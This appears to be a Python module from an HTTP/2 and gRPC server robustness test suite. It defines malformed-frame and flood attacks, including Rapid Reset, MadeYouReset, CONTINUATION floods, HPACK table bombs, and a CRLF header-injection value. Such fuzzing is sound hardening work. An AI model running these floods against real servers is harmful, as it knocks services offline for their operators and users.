"""Broken HTTP/2: each attack takes a connection and a source of chance, and writes until it is done or cut off."""

import struct
from collections.abc import Callable
from random import Random

from . import peer as h2
from .peer import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Peer,
    frame,
)

Attack = Callable[[Peer, Random], None]
_INITIAL_WINDOW_SIZE, _HEADER_TABLE_SIZE = 4, 1
_REFUSED = struct.pack(">I", 8)
_MANY = 1_500


def wrong_preface(peer: Peer, random: Random) -> None:
    """Send noise, HTTP/1.1, a TLS hello or nearly a preface."""
    peer.write(
        random.choice(
            [
                random.randbytes(300),
                b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
                b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + random.randbytes(200),
                PREFACE[:-3] + b"XX\r\n",
            ]
        )
    )


def half_frames(peer: Peer, random: Random) -> None:
    """Send a frame that says more than follows."""
    peer.greet()
    whole = frame(HEADERS, END_HEADERS, 1, peer.block()) + frame(DATA, 0, 1, bytes(100))
    peer.write(whole[: random.randrange(1, len(whole))])


def vast_frames(peer: Peer, random: Random) -> None:
    """Send the head of a frame of 16 MB, and a kilobyte of it."""
    peer.greet()
    kind = random.choice([DATA, HEADERS, SETTINGS, PING, GOAWAY, 0x77])
    peer.write(b"\xff\xff\xff" + struct.pack(">BBI", kind, 0, 1) + bytes(1000))


def rapid_reset(peer: Peer, random: Random) -> None:
    """Reset streams as soon as they begin (CVE-2023-44487)."""
    peer.greet()
    body = h2.message(random.randbytes(random.choice([0, 10, 1000])))
    for _ in range(_MANY):
        stream = peer.begin()
        if random.random() < 0.5:
            peer.write(frame(DATA, END_STREAM, stream, body))
        peer.write(frame(RST_STREAM, 0, stream, _REFUSED))


def made_you_reset(peer: Peer, random: Random) -> None:
    """Begin streams that the server must reset, for a wrong frame of the client's (CVE-2025-8671)."""
    peer.greet()
    for _ in range(_MANY):
        stream = peer.begin()
        peer.write(
            random.choice(
                [
                    frame(WINDOW_UPDATE, 0, stream, bytes(4)),
                    frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"),
                    frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 0)),
                    frame(DATA, END_STREAM, stream) + frame(DATA, 0, stream, b"x"),
                ]
            )
        )


def window_of_nothing(peer: Peer, random: Random) -> None:
    """Call with windows that never let an answer be sent, or a byte at a time."""
    peer.greet([(_INITIAL_WINDOW_SIZE, random.choice([0, 1]))])
    for _ in range(200):
        stream = peer.begin()
        peer.write(frame(DATA, END_STREAM, stream, h2.message(b"")))
        if random.random() < 0.5:
            peer.write(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") * 20)


def window_overflow(peer: Peer, random: Random) -> None:
    """Raise windows above 2^31-1: of the connection, of a stream, or of the settings."""
    settings = random.choice([(), ((_INITIAL_WINDOW_SIZE, 2**32 - 1),)])
    peer.greet(settings)
    stream = peer.begin()
    for _ in range(10):
        peer.write(frame(WINDOW_UPDATE, 0, random.choice([0, stream]), b"\x7f\xff\xff\xff"))


def window_updates_of_zero(peer: Peer, random: Random) -> None:
    """Update windows by nothing, or with frames of a wrong size."""
    peer.greet()
    stream = random.choice([0, peer.begin()])
    for _ in range(_MANY):
        peer.write(
            frame(WINDOW_UPDATE, 0, stream, random.choice([bytes(4), bytes(3), b"\0\0\0\1"]))
        )


def ignored_windows(peer: Peer, random: Random) -> None:
    """Send more bytes than the server's windows allow."""
    peer.greet()
    stream = peer.begin()
    peer.write(frame(DATA, 0, stream, h2.message(b"", length=60_000_000)))
    for _ in range(random.choice([500, 2000])):
        peer.write(frame(DATA, 0, stream, bytes(16_384)))


def header_flood(peer: Peer, random: Random) -> None:
    """Send thousands of header fields, or few of a megabyte in all, in one call."""
    peer.greet()
    size = random.choice([10, 1000, 60_000])
    fields = [(f"x-{n}", "y" * size) for n in range(min(5000, 2_000_000 // size))]
    _in_frames(peer, peer.block(h2.TRANSFORM, *fields), peer.stream())


def table_bomb(peer: Peer, random: Random) -> None:
    """Name a field of 4 kB in HPACK's table thousands of times, by a byte each."""
    peer.greet()
    block = peer.block(h2.TRANSFORM, ("x-bomb", "z" * 3000)) + b"\xbe" * random.choice(
        [100, 16_000]
    )
    for _ in range(20):
        _in_frames(peer, block, peer.stream())


def broken_header_blocks(peer: Peer, random: Random) -> None:
    """Send HPACK that cannot be read: an index too high, an endless number, a table too large, noise."""
    peer.greet()
    block = random.choice(
        [
            b"\xff\xff\xff\xff\x7f",
            b"\xff" + b"\x80" * 100,
            b"\x3f\xff\xff\xff\x7f",
            b"\x00\xff\xff\xff\xff\x07x",
            b"\x80",
            random.randbytes(200),
        ]
    )
    peer.write(frame(HEADERS, END_HEADERS, peer.stream(), block))


def continuation_flood(peer: Peer, random: Random) -> None:
    """Send a header block that never ends, in empty or full frames (CVE-2024-27316 and its kind)."""
    peer.greet()
    stream = peer.stream()
    peer.write(frame(HEADERS, 0, stream, peer.block()))
    # A literal field without indexing, and a piece of HPACK's table.
    piece = random.choice([b"", b"\x00\x01a\x01b", b"\x00\x01a\x7f\x81\x7d" + b"c" * 16_000])
    for _ in range(5 * _MANY if len(piece) < 10 else _MANY):
        peer.write(frame(CONTINUATION, 0, stream, piece))


def interrupted_headers(peer: Peer, random: Random) -> None:
    """Send another frame, or another stream's, in the middle of a header block; and a CONTINUATION alone."""
    peer.greet()
    stream = peer.stream()
    peer.write(frame(HEADERS, 0, stream, peer.block()))
    kind = random.choice([DATA, HEADERS, PING, CONTINUATION, SETTINGS])
    peer.write(frame(kind, END_HEADERS, stream + 2, bytes(8)))


def settings_flood(peer: Peer, random: Random) -> None:
    """Send settings over and over, each of which asks for an acknowledgement."""
    peer.greet()
    change = struct.pack(">HI", _INITIAL_WINDOW_SIZE, 65_535)
    change += struct.pack(">HI", _HEADER_TABLE_SIZE, random.randrange(70_000))
    for _ in range(10):
        peer.write(frame(SETTINGS, 0, 0, change) * 1000)


def odd_settings(peer: Peer, random: Random) -> None:
    """Send settings of wrong sizes and values, and unknown ones."""
    peer.greet([(random.randrange(65_536), random.randrange(2**32)) for _ in range(50)])
    peer.write(frame(SETTINGS, random.choice([0, 1]), random.choice([0, 1]), random.randbytes(7)))


def ping_flood(peer: Peer, random: Random) -> None:
    """Send pings, and read their acknowledgements or not."""
    peer.greet()
    write = random.choice([peer.write, peer.write_blindly])
    for _ in range(20):
        write(frame(PING, 0, 0, bytes(8)) * 1000)


def data_before_headers(peer: Peer, random: Random) -> None:
    """Send frames of streams that never began, and of stream 0."""
    peer.greet()
    kind = random.choice([DATA, RST_STREAM, WINDOW_UPDATE, CONTINUATION])
    peer.write(frame(kind, 0, random.choice([0, 1, 7]), bytes(4)))


def bad_padding(peer: Peer, random: Random) -> None:
    """Send padding as long as the frame, or longer."""
    peer.greet()
    stream = peer.begin()
    kind = random.choice([DATA, HEADERS])
    peer.write(
        frame(kind, PADDED | END_HEADERS, stream, b"\xff" + bytes(random.choice([0, 3, 254])))
    )


def wrong_streams(peer: Peer, random: Random) -> None:
    """Use even, repeated, falling and vast numbers of streams, and send a promise of a client's."""
    peer.greet()
    peer.stream()
    for _ in range(20):
        stream = random.choice([0, 2, 1, 1, 2**31 - 1, 2**32 - 1, peer.stream()])
        peer.write(frame(HEADERS, END_HEADERS | random.choice([0, 1]), stream, peer.block()))
        if random.random() < 0.2:
            peer.write(frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4) + peer.block()))


def goaway_flood(peer: Peer, random: Random) -> None:
    """Send goodbyes, with calls between them."""
    peer.greet()
    for _ in range(_MANY):
        peer.write(frame(GOAWAY, 0, 0, bytes(8) + random.randbytes(random.choice([0, 50]))))
        if random.random() < 0.1:
            peer.begin()


def unknown_frames(peer: Peer, random: Random) -> None:
    """Send frames of no known kind, and priorities, between those of a call."""
    peer.greet()
    stream = peer.begin()
    for _ in range(_MANY):
        kind = random.choice([PRIORITY, random.randrange(10, 256)])
        peer.write(frame(kind, random.randrange(256), stream, struct.pack(">IB", 0, 16)))


def empty_data_flood(peer: Peer, random: Random) -> None:
    """Send frames of data without data (CVE-2019-9518)."""
    peer.greet()
    stream = peer.begin()
    padding = random.choice([b"", b"\0"])
    for _ in range(20):
        peer.write(frame(DATA, PADDED if padding else 0, stream, padding) * 1000)


def streams_without_end(peer: Peer, random: Random) -> None:
    """Begin calls, and say nothing more."""
    peer.greet()
    path = random.choice([h2.TRANSFORM, f"{h2.TRANSFORM}Stream", "/grpc.health.v1.Health/Watch"])
    for _ in range(_MANY // 2):
        peer.begin(path)


def calls_without_a_message(peer: Peer, random: Random) -> None:
    """End calls before their message does, or without one. gRPC answers none of them."""
    peer.greet()
    for _ in range(_MANY // 5):
        stream = peer.begin(random.choice([h2.TRANSFORM, f"{h2.TRANSFORM}Stream"]))
        peer.write(frame(DATA, END_STREAM, stream, random.choice([b"", b"\0", b"\0\0\0\0\5ab"])))


def odd_calls(peer: Peer, random: Random) -> None:
    """Call with header fields that are wrong, missing, repeated or of a wrong case; and with trailers of a client's."""
    peer.greet()
    extra = [
        ("grpc-timeout", random.choice(["0n", "-1S", "99999999999H", "1x", ""])),
        ("grpc-encoding", random.choice(["gzip", "br", "", "identity"])),
        ("content-type", "text/html"),
        (":path", "/"),
        (":status", "200"),
        ("Upper", "x"),
        ("connection", "close"),
        ("transfer-encoding", "chunked"),
        ("x-bin", "not base 64"),
        ("te", "gzip"),
        ("x\n", "y\r\nz: w"),
        ("", ""),
    ]
    paths = [h2.TRANSFORM, "", "/", "*", "/ciosidecar.v1.SidecarService/", "x" * 5000, "/\u00e9/b"]
    for _ in range(50):
        fields = random.sample(extra, random.randrange(4))
        stream = peer.begin(random.choice(paths), *fields)
        peer.write(frame(DATA, 0, stream, h2.message(b"")))
        peer.write(frame(HEADERS, END_HEADERS | END_STREAM, stream, peer.block()))


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(wrong_preface, half_frames, vast_frames, rapid_reset, made_you_reset),
        *(window_of_nothing, window_overflow, window_updates_of_zero, ignored_windows),
        *(header_flood, table_bomb, broken_header_blocks, continuation_flood, interrupted_headers),
        *(settings_flood, odd_settings, ping_flood, data_before_headers, bad_padding),
        *(wrong_streams, goaway_flood, unknown_frames, empty_data_flood, streams_without_end),
        *(calls_without_a_message, odd_calls),
    )
}
"""The attacks by their names."""


def _in_frames(peer: Peer, block: bytes, stream: int) -> None:
    """Write a header block in as many frames as it needs."""
    pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    for number, piece in enumerate(pieces):
        flags = END_HEADERS if number == len(pieces) - 1 else 0
        peer.write(frame(HEADERS if number == 0 else CONTINUATION, flags, stream, piece))
